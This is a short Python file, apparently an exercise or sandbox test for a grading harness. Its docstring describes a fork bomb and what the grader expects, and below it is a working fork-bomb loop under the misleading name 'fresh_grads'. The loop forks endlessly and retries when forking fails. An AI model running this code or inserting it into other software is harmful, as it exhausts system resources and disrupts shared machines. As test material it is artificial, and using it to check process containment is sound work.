"""A fork bomb: every process forks as fast as it can, forever, and children that
fail to fork keep trying. The grader: 0, every process gone afterwards, and the
other exercises (running beside it) unharmed."""

import os
import time


def fresh_grads(fs, x):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
